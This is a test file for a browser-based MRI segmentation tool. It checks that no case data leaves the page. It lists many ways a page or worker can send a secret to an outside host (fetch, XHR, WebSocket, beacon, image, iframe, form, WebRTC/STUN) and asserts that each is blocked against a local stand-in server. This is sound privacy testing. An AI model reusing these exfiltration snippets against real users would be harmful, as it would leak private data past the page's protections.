// That nothing of a case leaves the browser: what tries to send is stopped, and a whole study is searched for the case's own
// bytes. docs/privacy.md says what each of these tests stands for.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import http from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { openFiles, openSite, python, runStudy, scratchFolder } from './support.mjs';

/** Somebody else's server: counts what reaches it, whatever it is. */
async function outsideServer() {
  /** @type {string[]} */
  const reached = [];
  const server = http.createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('export {}');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  const datagrams = createSocket('udp4');
  datagrams.on('message', () => reached.push('datagram'));
  await new Promise((resolve) => datagrams.bind(0, '127.0.0.1', () => resolve(undefined)));
  const port = /** @type {import('node:net').AddressInfo} */ (server.address()).port;
  return {
    reached,
    url: `http://127.0.0.1:${port}/taken`,
    stun: `stun:127.0.0.1:${datagrams.address().port}`,
    close() {
      server.closeAllConnections();
      server.close();
      datagrams.close();
    },
  };
}

/** @type {Awaited<ReturnType<typeof outsideServer>>} */
let outside;
/** @type {Awaited<ReturnType<typeof openSite>>} */
let site;
before(async () => {
  outside = await outsideServer();
  site = await openSite({ models: ['tiny-unet'], spacing: 12 });
});
after(async () => {
  await site.close();
  outside.close();
});

/** Code that sends `secret` to `url` in each way a page or a worker has; run where it is said. @type {Record<string, string>} */
const ways = {
  fetch: "await fetch(url, { method: 'POST', body: secret, mode: 'no-cors' })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', url, false); x.send(secret)",
  WebSocket: "const s = new WebSocket(url.replace('http', 'ws') + secret); await new Promise((r) => (s.onclose = r))",
  EventSource: 'const e = new EventSource(url + secret); await new Promise((r) => (e.onerror = r)); e.close()',
  'dynamic import': 'await import(url + secret)',
};
/** @type {Record<string, string>} */
const pageWays = {
  ...ways,
  sendBeacon: 'navigator.sendBeacon(url, secret)',
  image: 'const i = new Image(); i.src = url + secret; await i.decode()',
  'style sheet':
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url + secret; document.head.append(l); await new Promise((r) => (l.onerror = r))",
  'prefetch link':
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url + secret; document.head.append(l); await new Promise((r) => setTimeout(r, 500))",
  frame:
    "const f = document.createElement('iframe'); f.src = url + secret; document.body.append(f); await new Promise((r) => setTimeout(r, 500))",
  form: "const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 500))",
  worker: 'new Worker(url + secret)',
  RTCPeerConnection:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((r) => setTimeout(r, 1500)); c.close()",
};

/** The code as an expression that ends in any case: what is stopped may never hear of it. @param {string} code */
function attempt(code) {
  const told = `const url = '${outside.url}', stun = '${outside.stun}', secret = '-secret'`;
  return `Promise.race([(async () => { ${told}; ${code}; })(), new Promise((r) => setTimeout(r, 2000))]).then(() => 0, () => 0)`;
}

test('with the policy out of the way the same code does send: the test can see it', async () => {
  const plain = await site.context.browser()?.newContext({ bypassCSP: true, serviceWorkers: 'block' });
  assert.ok(plain);
  const page = await plain.newPage();
  await page.goto(outside.url); // a page of no policy
  outside.reached.length = 0;
  await page.evaluate(
    `(async () => { const url = '${outside.url}', secret = '-secret'; await fetch(url + secret); })()`,
  );
  assert.ok(outside.reached.some((each) => each.includes('-secret')));
  await plain.close();
  outside.reached.length = 0;
});

for (const [name, code] of Object.entries(pageWays)) {
  test(`from the page, ${name} reaches nobody`, async () => {
    outside.reached.length = 0;
    // Built into the page by the test's own channel: the policy forbids the page to evaluate text.
    await site.page.evaluate(attempt(code));
    await site.page.waitForTimeout(200);
    assert.deepEqual(outside.reached, []);
    assert.equal(await site.page.evaluate(() => /** @type {any} */ (window).shapslice.ready), true);
  });
}

test('from a worker of the page, each way reaches nobody', async () => {
  const [worker] = site.page.workers();
  assert.ok(worker, 'the engine worker');
  for (const [name, code] of Object.entries(ways)) {
    outside.reached.length = 0;
    await Promise.race([worker.evaluate(attempt(code)).catch(() => {}), site.page.waitForTimeout(4000)]);
    assert.deepEqual(outside.reached, [], name);
  }
});

test('the service worker fetches for nobody else: what is not of the site is not there', async () => {
  outside.reached.length = 0;
  const [worker] = site.context.serviceWorkers();
  assert.ok(worker, 'the service worker');
  const answer = await worker
    .evaluate(async (url) => (await fetch(`${url}-secret`, { mode: 'no-cors' })).type, outside.url)
    .catch((error) => String(error));
  assert.deepEqual(outside.reached, [], answer);
});

test('what a policy cannot stop, a navigation, nothing of the page does', async () => {
  // Leaving the page for an address is the user's right, so no policy forbids it: docs/privacy.md says what is done instead.
  const sources = await site.page.evaluate(async () => {
    const modules = [
      'main',
      'app',
      'boot',
      'engine_client',
      'engine_worker',
      'measure_worker',
      'memory_meter',
      'mirror',
    ];
    const texts = [...modules, 'ort_runtime'].map(async (name) => (await fetch(`web/${name}.js`)).text());
    return (await Promise.all(texts)).join('\n');
  });
  assert.ok(sources.length > 20_000);
  assert.doesNotMatch(sources, /window\.open|location\.(assign|replace)\(|location(\.href)?\s*=[^=]|\bopener\b|ping=/);
});

test('in every byte that the browser sends during a study there is nothing of the case', async () => {
  const canary = 'kanarie7f3a';
  const folder = scratchFolder();
  // A small head whose voxels are a sequence found nowhere else, under a name found nowhere else.
  const runs = python(
    `
import json, sys, numpy as np, nibabel as nib
folder, name = sys.argv[1:]
rng = np.random.default_rng(7)
runs = []
for contrast in ('t1c', 't1n', 't2f', 't2w', 'seg'):
    voxels = np.zeros((30, 30, 30), np.int16)
    voxels[4:26, 4:26, 4:26] = rng.integers(1, 4 if contrast == 'seg' else 30000, (22, 22, 22))
    nib.save(nib.Nifti1Image(voxels, np.diag([6, 6, 6, 1])), f'{folder}/{name}-{contrast}.nii')
    row = voxels[5:13, 10, 10]
    runs += [row.astype(kind).tobytes().hex() for kind in ('<i2', '>i2', '<f4')] if contrast != 'seg' else []
print(json.dumps(runs))`,
    folder,
    canary,
  );
  const sent = await openSite({ models: ['tiny-unet'], spacing: 12, record: true });
  try {
    const files = ['t1c', 't1n', 't2f', 't2w', 'seg'].map((each) => path.join(folder, `${canary}-${each}.nii`));
    const { error } = await openFiles(sent.page, files);
    assert.equal(error, undefined);
    const result = await runStudy(sent.page);
    assert.equal(result.caseName, canary);
    await sent.page.evaluate(() => /** @type {any} */ (window).shapslice.csv());
    await sent.page.waitForTimeout(1000);
    const bytes = Buffer.concat(sent.recorded);
    assert.ok(bytes.includes('GET '), 'the recorder sees what the browser asks for');
    const text = bytes.toString('latin1').toLowerCase();
    for (const form of [
      canary,
      Buffer.from(canary).toString('base64').toLowerCase().slice(0, 12),
      Buffer.from(canary, 'utf16le').toString('latin1'),
    ])
      assert.ok(!text.includes(form), form);
    for (const run of runs) assert.ok(!bytes.includes(Buffer.from(run, 'hex')));
    console.log(`the browser sent ${bytes.length} bytes in all, to anybody, from its start to the end of a study`);
    // Every request is for a file of the site. What Chromium itself asks its maker for is told apart by its host; that too was
    // searched above.
    for (const line of text.match(/^[a-z]+ \S+ http\/1\.1\r?$/gm) ?? [])
      assert.match(line, /^get http:\/\/localhost:\d+\/|^\w+ (http:\/\/)?[\w.]+\.google(apis)?\.com[:/]/);
  } finally {
    await sent.close();
  }
});
